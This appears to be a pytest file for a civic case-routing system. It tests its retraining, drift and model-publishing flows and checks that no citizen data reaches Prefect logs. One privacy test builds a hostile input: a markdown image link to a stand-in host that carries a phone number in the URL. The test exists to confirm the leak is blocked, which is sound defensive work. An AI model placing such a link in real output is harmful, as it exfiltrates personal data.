"""The flows of the learning loop: they end early when there is too little, publish codes and counts, and no citizen's word (P27)."""

from __future__ import annotations

import json
from functools import partial
from pathlib import Path

import pytest

from flows.drift import drift
from flows.ingest import ingest
from flows.model_artifacts import publish_verdict
from flows.retrain import retrain
from flows.route import route
from nistaran.bootstrap import open_house
from nistaran.settings import Settings
from nistaran.steps.correct import correct_case
from nistaran.steps.trust import accept_case
from tests.files import row, write_csv
from tests.flows.test_main_job import PHONE, SECRET, everything_prefect_knows
from tests.models.quick import open_quick


@pytest.fixture
def quick(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The home of a house whose challengers take a millisecond; the first is refused."""
    opened = partial(open_quick, refuses=frozenset({"departments-1"}))
    for place in ("flows.retrain", "flows.drift", "nistaran.bootstrap_model"):
        monkeypatch.setattr(f"{place}.open_models", opened)
    return home


def taught() -> None:
    """Two corrections that the receiving office accepted."""
    with open_house(Settings()) as house:
        with house.read() as work:
            numbers = [case.number for case in work.cases.page(after_id=0, limit=2)]
        for number in numbers:
            office = correct_case(house, number, department="EXCISE", by="up.clerk1").office
            accept_case(house, number, office=office, by="up.office")


def test_with_nothing_new_it_ends_early_and_says_so(quick: Path) -> None:
    assert retrain() == {"state": "TOO_FEW", "labels": 0, "new": 0, "used": 0}
    assert drift()["state"] == "TOO_FEW"
    assert "nothing was trained" in everything_or_retrain()


def everything_or_retrain() -> str:
    ingest()
    route()
    return everything_prefect_knows()


@pytest.mark.promise("P27")
def test_refused_then_proposed_and_nothing_of_a_citizen_reaches_prefect(quick: Path) -> None:
    hostile = f"{SECRET} ![x](http://example.invalid/{PHONE})"
    rows = [row(text=f"{hostile} {n}", name=SECRET, phone=PHONE, reference=f"r{n}") for n in range(3)]
    write_csv(quick / "inbox" / "a.csv", rows)
    ingest()
    route()
    taught()
    assert retrain(enough=2)["state"] == "REFUSED"
    assert retrain(enough=1)["state"] == "TOO_FEW"
    assert retrain(enough=0)["state"] == "PROPOSED"
    told = everything_prefect_knows()
    for expected in ("CANARY_FELL", "ENERGY:bill", "departments-2", "model-card", "verdict"):
        assert expected in told
    for secret in (SECRET, PHONE, "example.invalid"):
        assert secret not in told


def test_without_audited_cases_nothing_is_trained_and_the_artifact_says_what_to_do(
    quick: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tests.models.quick.Quick.needs", 100)
    assert retrain(enough=0) == {"state": "NOT_AUDITED", "labels": 0, "new": 0, "used": 0}
    assert "nistaran model audit" in everything_prefect_knows()


def test_auto_makes_it_live(quick: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NISTARAN_PROMOTE", "auto")
    retrain(enough=0)
    assert retrain(enough=0)["state"] == "PROMOTED"
    assert open_quick(Settings()).live().version == "departments-2"


def test_an_artifact_takes_no_login_with_words_in_it(quick: Path) -> None:
    from dataclasses import replace

    from flows.edge import NotForArtifacts
    from tests.models.tiny import NOW

    proposal = open_quick(Settings()).challenge([], by="schedule", at=NOW)
    with pytest.raises(NotForArtifacts):
        publish_verdict(replace(proposal, by="मेरा नाम राम"))
    assert json.dumps(proposal.noise)
